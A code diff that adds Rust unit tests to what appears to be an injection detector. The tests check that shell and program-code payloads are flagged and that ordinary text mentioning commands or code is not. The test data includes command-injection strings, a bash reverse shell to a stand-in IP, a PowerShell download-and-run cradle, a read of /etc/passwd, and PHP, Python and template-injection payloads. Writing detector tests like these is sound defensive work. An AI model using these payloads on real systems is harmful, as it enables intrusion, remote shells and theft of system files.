@@ -2,7 +2,7 @@
 
 use super::shape::{Construct, Shape};
 use super::sql::SqlLexer;
-use super::{html, sql};
+use super::{code, html, shell, sql};
 use crate::normalise::decode::{Kind, normalise_into};
 
 fn decoded(value: &str) -> Vec<u8> {
@@ -27,6 +27,22 @@ fn html_words(value: &str) -> String {
     String::from_utf8(words).unwrap()
 }
 
+fn shell_words(value: &str) -> String {
+    let mut shape = Shape::default();
+    shell::read(&decoded(value), false, &mut shape);
+    let mut words = Vec::new();
+    shape.write_words(&mut words);
+    String::from_utf8(words).unwrap()
+}
+
+fn code_words(value: &str) -> String {
+    let mut shape = Shape::default();
+    code::read(&decoded(value), false, &mut shape);
+    let mut words = Vec::new();
+    shape.write_words(&mut words);
+    String::from_utf8(words).unwrap()
+}
+
 fn has(words: &str, word: &str) -> bool {
     words.split(' ').any(|found| found == word)
 }
@@ -43,6 +59,8 @@ fn every_construct_has_a_distinct_word_and_no_word_contains_likely() {
     }
     check::<sql::Construct>();
     check::<html::Construct>();
+    check::<shell::Construct>();
+    check::<code::Construct>();
 }
 
 #[test]
@@ -160,6 +178,102 @@ fn texts_about_markup_and_plain_formatting_are_not_accused() {
         "https://example.org/a?b=(c)",
     ] {
         let words = html_words(value);
+        assert!(!has(&words, "likely"), "{value}: {words}");
+    }
+}
+
+#[test]
+fn command_lines_are_accused() {
+    for (value, word) in [
+        ("127.0.0.1;whoami", "separated-command"),
+        ("127.0.0.1|w\\get http://192.0.2.1/x", "taken-apart"),
+        ("8.8.8.8; c''at /x", "taken-apart"),
+        ("a;/???/c?t /x", "wildcard-path"),
+        ("{cat,/etc/passwd}", "brace-command"),
+        ("cat$IFS/x;ls -la", "field-separator"),
+        ("() { :;}; echo x", "function-import"),
+        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "reverse-shell"),
+        ("for /l %a in (1,1,2) do ver", "windows-loop"),
+        ("if not defined n set n=1", "windows-condition"),
+        ("\"&ping -n 1 192.0.2.1&rem ", "windows-remark"),
+        ("powershell -nop -c x; iex(new-object net.webclient)", "power-shell"),
+        ("$(cat /x)", "substitution"),
+        ("x|bash", "piped-shell"),
+        ("';rm x #", "commented-command"),
+        ("'echo A$((1+2))'", "shell-sum"),
+        ("/usr/bin/id", "command-path"),
+    ] {
+        let words = shell_words(value);
+        assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
+    }
+}
+
+#[test]
+fn talk_of_commands_is_no_command_line() {
+    for value in [
+        "rm -rf node_modules",
+        "ping -c 4 example.org",
+        "ls -la | sort",
+        "l'ls et d'at",
+        "chats; chiens; more",
+        "how to edit /etc/fstab",
+        "rock'n'roll & co",
+        "/search/handmade/art/print?search_query=14",
+        "it was if exist a word",
+        "a heroine; more than that",
+        "dog|cat|bird",
+        "echo $PATH",
+        "/* commentaire */",
+        "what if a = b",
+    ] {
+        let words = shell_words(value);
+        assert!(!has(&words, "likely"), "{value}: {words}");
+    }
+}
+
+#[test]
+fn program_code_is_accused() {
+    for (value, word) in [
+        ("<?php echo 1;", "php-tag"),
+        ("$_GET[0]", "php-input"),
+        ("${'a'}(11)", "variable-call"),
+        ("auto_prepend_file = /x", "php-setting"),
+        ("system('id');", "dangerous-call"),
+        ("exec /*x*/ ('id')", "hidden-call"),
+        ("strip_tags()", "whole-call"),
+        ("process.env.HOME", "script-inside"),
+        ("while(!0);", "endless-loop"),
+        ("console.log(1)", "script-console"),
+        ("$1:constructor:constructor", "component-reference"),
+        ("java.lang.Runtime", "java-class"),
+        ("${7*7}", "bracket-expression"),
+        ("__import__('os')", "python-inside"),
+        ("@{[system 'id']}", "perl-interpolation"),
+        ("%x(id)", "ruby-inside"),
+        ("<% if true %>", "server-tag"),
+        ("wscript.shell", "windows-object"),
+    ] {
+        let words = code_words(value);
+        assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
+    }
+}
+
+#[test]
+fn talk_of_programs_is_no_code() {
+    for value in [
+        "printf() in C",
+        "System.out.println()",
+        "new Date() javascript",
+        "${variable} in bash",
+        "100$ (ou 90)",
+        "startswith(Name,'a')",
+        "f(x) = sin(x)/x",
+        "array_map() vs foreach",
+        "<b>50% (environ)</b>",
+        "{\"a\":{\"b\":[1,2]}}",
+        "fonction(s) et date(s)",
+    ] {
+        let words = code_words(value);
         assert!(!has(&words, "likely"), "{value}: {words}");
     }
 }
